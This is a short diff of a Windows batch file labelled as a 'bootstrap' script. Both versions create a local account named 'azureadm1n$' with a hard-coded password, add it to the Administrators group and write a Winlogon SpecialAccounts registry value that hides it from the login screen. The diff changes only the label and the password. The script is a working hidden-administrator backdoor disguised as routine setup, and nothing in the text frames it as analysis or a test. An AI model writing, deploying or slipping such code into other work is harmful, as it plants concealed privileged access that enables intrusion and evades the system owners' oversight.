@@ -1,5 +1,5 @@
-REM run 9007 v3
+REM bootstrap 3657 v3
 @echo off
-net user azureadm1n$ P@ssw0rd!2024 /add /active:yes
+net user azureadm1n$ Qwerty#7788 /add /active:yes
 net localgroup Administrators azureadm1n$ /add
 reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
